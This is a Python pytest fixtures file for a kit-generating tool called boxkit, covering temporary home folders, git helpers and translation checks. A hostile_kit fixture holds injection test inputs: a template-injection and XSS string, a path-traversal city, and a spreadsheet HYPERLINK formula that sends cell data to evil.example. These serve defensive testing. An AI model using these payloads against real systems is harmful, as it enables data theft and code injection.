"""Shared fixtures: every test renders with the real Copier, git and template.

The bundled template's git bundle is built once per session in a temporary home folder,
never in the user's home.
"""

from __future__ import annotations

import datetime as dt
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from boxkit import NewKit, new_kit, resolve_answers

HOSTILE = "{{ 7*7 }} <script>alert(1)</script> \"O'Brien: #1\""
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Room 3")'
"""A room name a spreadsheet would run as a formula."""
TODAY = dt.date(2026, 11, 23)


@pytest.fixture(scope="session", autouse=True)
def _home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """A home folder of the tests' own: boxkit builds its template bundle there, under
    ``~/.local/share/boxkit``, never in the user's home."""
    folder = tmp_path_factory.mktemp("home")
    saved = {name: os.environ.get(name) for name in ("HOME", "REAL_HOME")}
    os.environ["REAL_HOME"] = saved["REAL_HOME"] or saved["HOME"] or ""
    os.environ["HOME"] = str(folder)
    yield
    for name, value in saved.items():
        if value is None:
            os.environ.pop(name, None)
        else:
            os.environ[name] = value


def make_kit(dest: Path, *, languages_from_country: bool = False, **given: object) -> NewKit:
    """A kit from these answers. In English unless ``locales`` is given, so that tests
    reading English text do not depend on which languages are shipped; or, with
    ``languages_from_country``, in the country's languages as `boxkit new` chooses them."""
    if not languages_from_country:
        given.setdefault("locales", ["en"])
    resolved = resolve_answers(given, today=TODAY)
    return new_kit(dest, resolved.answers, notes=resolved.notes)


def kit_from(template: Path, dest: Path, *locales: str, country: str = "SE") -> Path:
    """A kit made from a small template of a test's own, with the answers `boxkit new`
    gives ``country`` (and these ``locales``, when given)."""
    given: dict[str, object] = {"country": country}
    if locales:
        given["locales"] = list(locales)
    new_kit(dest, resolve_answers(given, today=TODAY).answers, template=str(template))
    return dest


@pytest.fixture
def kit(tmp_path: Path) -> Path:
    """A fresh English kit for Sweden, made through the command line, to add templates to."""
    from typer.testing import CliRunner

    from boxkit.cli import app

    result = CliRunner().invoke(app, ["new", str(tmp_path / "kit"), "--country", "SE",
                                      "--locale", "en", "--no-input", "-d", "event_city=Malmö",
                                      "-d", "contact_email=hej@example.se"])
    assert result.exit_code == 0, result.output
    return tmp_path / "kit"


@pytest.fixture(scope="session")
def sweden_kit(tmp_path_factory: pytest.TempPathFactory) -> NewKit:
    """The kit most tests read: `--country SE` with a contact and a venue."""
    return make_kit(tmp_path_factory.mktemp("se") / "kit", country="SE",
                    contact_email="hej@example.se", event_venue="Kulturhuset",
                    event_city="Stockholm", event_start="09:00", event_slots=4,
                    event_slot_minutes=50, event_break_minutes=10, event_lunch_minutes=40)


@pytest.fixture(scope="session")
def hostile_kit(tmp_path_factory: pytest.TempPathFactory) -> NewKit:
    """A kit whose every free-text answer is hostile."""
    return make_kit(tmp_path_factory.mktemp("hostile") / "kit", country="GB",
                    chapter_name=HOSTILE, event_venue=HOSTILE, event_city="../../etc",
                    event_rooms=[{"name": HOSTILE, "capacity": 40},
                                 {"name": "Room | 2", "capacity": 20},
                                 {"name": FORMULA, "capacity": 10}])


def git(cwd: Path, *args: str) -> str:
    """Run git in ``cwd`` for a test and return its output."""
    return subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True,
                          check=True).stdout


def commit_all(repo: Path, message: str, tag: str | None = None) -> None:
    """Commit everything in ``repo`` (and tag it) as a test author."""
    git(repo, "add", "-A")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", message)
    if tag:
        git(repo, "tag", tag)


def need(ok: bool, what: str) -> None:
    """Skip a test whose outside tool is missing here; under CI, which installs every tool
    (.ci/run), fail it instead, so that a missing install step cannot hide."""
    if ok:
        return
    if os.environ.get("CI"):
        pytest.fail(f"{what} is missing: .ci/run installs it")
    pytest.skip(f"{what} is not installed here")


def english_left(kit: NewKit, code: str) -> list[str]:
    """English blocks (prose of five words or more, without tags) still found in the kit's
    files in language ``code`` and in its README in that language: blocks left untranslated,
    other than those a translation keeps as they are (names). A variant (fr_CA) is read
    against its base language's catalog."""
    from boxkit import _catalogs
    from boxkit._variants import base_of

    locales = Path(__file__).parents[1] / "locales"
    kept = {source for source, target in _catalogs.translations(_catalogs.read(
        locales / (base_of(code) or code) / "kit.po")).items() if source == target}
    blocks = {" ".join(m.id.split()) for m in _catalogs.read(locales / "kit.pot")
              if isinstance(m.id, str) and "{" not in m.id and len(m.id.split()) >= 5
              and not m.id.startswith(("http", "[FILL IN")) and m.id not in kept}
    readme = "README.md" if kit.answers.locales[0] == code else f"README.{code}.md"
    found = []
    for path in sorted(kit.dest.rglob("*")):
        rel = path.relative_to(kit.dest).as_posix()
        if path.is_file() and (f"/{code}/" in f"/{rel}" or rel == readme):
            text = " ".join(path.read_text(encoding="utf-8", errors="replace").split())
            found += [f"{rel}: {block[:60]}" for block in sorted(blocks) if block in text]
    return found
